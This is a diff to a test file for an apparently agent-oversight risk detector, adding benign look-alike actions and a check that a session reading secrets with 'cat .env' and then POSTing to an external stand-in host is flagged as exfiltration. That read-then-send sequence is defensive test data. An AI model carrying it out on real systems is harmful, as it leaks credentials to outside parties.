@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from magistrate import Action, RiskDetector
+from magistrate import Action, Governor, RiskDetector
 from magistrate.levels import Risk
 
 
@@ -237,6 +237,15 @@ EVERYDAY: list[str | dict[str, Any]] = [
         "tool": "memory.add_observations",
         "args": {"observations": [{"contents": ["Always run the linter before committing"]}]},
     },
+    # a local dev API given a test token: nothing leaves the machine, and the JSON body's
+    # keys (`"env"`) are not commands
+    {
+        "kind": "http",
+        "text": 'POST http://localhost:8787/v1/devices body {"token": "7f3c0a9be1d2c4f6a8b0e2d4c6f8'
+        'a0b2c4d6e8f0a2b4c6d8e0f2a4b6c8d0e2f4", "platform": "ios", "env": "sandbox"}',
+    },
+    # the expired sessions, not every row
+    'psql -d myapp_dev -c "DELETE FROM sessions WHERE expires_at < now();"',
     # an edit that turns a control back on: the text it replaces is not what it writes
     {
         "kind": "file",
@@ -263,3 +272,25 @@ def test_harm_is_graded_by_what_it_does(
 def test_look_alikes_stay_everyday(detector: RiskDetector, action: str | dict[str, Any]) -> None:
     level, fired = judge(detector, action)
     assert level <= Risk.MEDIUM, (action, fired)
+
+
+def test_a_request_to_this_machine_after_a_secret_read_is_not_exfiltration() -> None:
+    gov = Governor()
+    gov.check(Action(kind="shell", text="cat .env", session="s-local"))
+    local = gov.check(
+        Action(
+            kind="http",
+            text='POST http://localhost:8080/v1/charges body {"amount": 1299}',
+            session="s-local",
+        )
+    )
+    assert local.allowed, local.rule_ids
+    gov.check(Action(kind="shell", text="cat .env", session="s-out"))
+    out = gov.check(
+        Action(
+            kind="http",
+            text='POST https://collector.example.net/v1/x body {"amount": 1299}',
+            session="s-out",
+        )
+    )
+    assert "session-exfiltration" in out.rule_ids
